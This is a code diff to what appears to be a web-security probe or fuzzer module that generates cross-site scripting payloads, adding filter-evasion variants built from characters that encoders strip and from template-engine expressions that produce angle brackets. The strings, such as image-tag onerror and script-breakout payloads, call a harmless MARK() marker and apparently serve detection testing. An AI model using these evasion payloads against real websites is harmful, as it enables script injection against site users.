@@ -16,17 +16,37 @@ from probes.grammars.placeholders import fields, single
 from probes.grammars.ranked import in_turn
 
 _IMAGE = "<img src=x onerror=MARK()>"
+#: What is left out of a page at last: by encoders that ignore errors, for XML, by tidying, by whoever keeps to ASCII.
+_LEFT_OUT = ("\ud800", "\0\x01\xad\u0301\u200b\ufeff\ufffe")
+#: What template engines make of a name that stands in the text of a template: brackets.
+_BRACKETS = (
+    ("{{ (self|string)[0]|safe }}", "{{ (self|string)[-1]|safe }}"),
+    ("${chr(60)}", "${chr(62)}"),  # and of format strings too
+)
+
+
+def _with_left_out(text: str) -> tuple[str, ...]:
+    """The text once for each sign of a row, which stands behind each bracket there: all of a row in one text."""
+    return tuple("".join(text.replace("<", "<" + sign) for sign in signs) for signs in _LEFT_OUT)
+
+
+def _by_templates(text: str) -> tuple[str, ...]:
+    return tuple(text.replace("<", left).replace(">", right) for left, right in _BRACKETS)
+
+
 _UPPER = "<IMG SRC=x ONERROR=MARK()>"
+_FEW_SIGNS = ("x onfocus=MARK() y", "<<img src=x onerror=MARK()//")
 _ANYWHERE = (
     f"'\"></title></textarea></style></script>{_IMAGE}",
     "\" onfocus=MARK() x=\"' onfocus=MARK() x='",
     "<script>MARK()</script>",
+    *_with_left_out(f"</title>{_IMAGE}"),
+    *_by_templates("</title><MARK>"),
     # Long ones and those of several lines may be put into another element.
     f"{'Long. ' * 60}\"'>{_IMAGE}",
     f"one\ntwo\r\n\n\"'>{_IMAGE}\n",
     '\\" onfocus=MARK() x=\\"',
-    "x onfocus=MARK() y",
-    "<<img src=x onerror=MARK()//",
+    *_FEW_SIGNS,
     "<svg/onload=MARK() x",
     "<img src=x\nonerror=MARK()\n>",
     "<IMG SRC=x ONERROR=MARK()>",
@@ -63,7 +83,7 @@ def texts() -> Iterator[str]:
     yield from _ANYWHERE[:3]
     yield from in_turn(
         _ANYWHERE[3:],
-        (other for text in (*_ANYWHERE[:3], *_ANYWHERE[6:8]) for other in evasions.evading(text)),
+        (other for text in (*_ANYWHERE[:3], *_FEW_SIGNS) for other in evasions.evading(text)),
         (form for text in (_IMAGE, *_ANYWHERE[1:2], f"'\">{_IMAGE}") for form in _spelled(text)),
     )
 
@@ -134,7 +154,7 @@ def urls(address: str) -> Iterator[str]:
     yield from _CODE_URLS[:3]
     yield from in_turn(
         _CODE_URLS[3:],
-        (f"{address}{text}" for text in (*_ANYWHERE[:3], _ANYWHERE[6], *_IN_ATTRIBUTES)),
+        (f"{address}{text}" for text in (*_ANYWHERE[:3], _FEW_SIGNS[0], *_IN_ATTRIBUTES)),
         (other for text in _CODE_URLS[:2] for other in evasions.evading(text)),
         (f"{address}{form}" for form in _spelled('"><img src=x onerror=MARK()>')),
     )
@@ -146,6 +166,8 @@ _SCRIPTS = (
     "\\\";MARK();//\\';MARK();//\\`;MARK();//",
     f"</SCRIPT >{_IMAGE}",
     f"</SCRIPT>{_UPPER}",
+    *_with_left_out(f"</script>{_IMAGE}"),
+    *_by_templates("</script><MARK>"),
     "</Script\f><Svg/Onload=MARK()>",
     f"\u00e9\u2019</SCRIPT >{_UPPER}",
     f"</script></SCRIPT></script ></SCRIPT ><img src=x>{_IMAGE}{_UPPER}",
